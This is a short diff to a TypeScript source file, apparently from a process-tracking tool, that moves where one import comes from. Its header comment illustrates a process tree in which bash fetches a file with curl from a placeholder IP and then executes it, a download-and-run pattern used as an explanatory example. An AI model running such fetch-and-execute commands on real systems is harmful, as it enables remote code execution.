@@ -3,8 +3,8 @@
 //   sshd ── bash ──┬─ curl http://192.0.2.7/x       one node a process; what it ran one after the other are its programs
 //                  └─ sh -c ./x ── ./x
 
-import { wordsOf } from '../../journal/activity/process.ts';
 import type { ProcessView } from '../../journal/process-view.ts';
+import { wordsOf } from '../../sessions/command-hash.ts';
 
 export interface Program {
   /** ns since the epoch. */
